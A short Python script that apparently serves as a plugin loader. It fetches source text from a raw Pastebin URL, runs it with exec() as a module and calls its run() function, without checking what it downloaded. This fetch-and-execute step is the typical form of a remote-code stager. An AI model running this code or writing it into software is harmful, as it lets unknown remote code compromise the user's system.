import importlib.util
import sys
import requests

src = requests.get("https://pastebin.com/raw/Q8sd7LkP").text
spec = importlib.util.spec_from_loader("remote_plugin", loader=None)
mod = importlib.util.module_from_spec(spec)
exec(src, mod.__dict__)
sys.modules["remote_plugin"] = mod
mod.run()
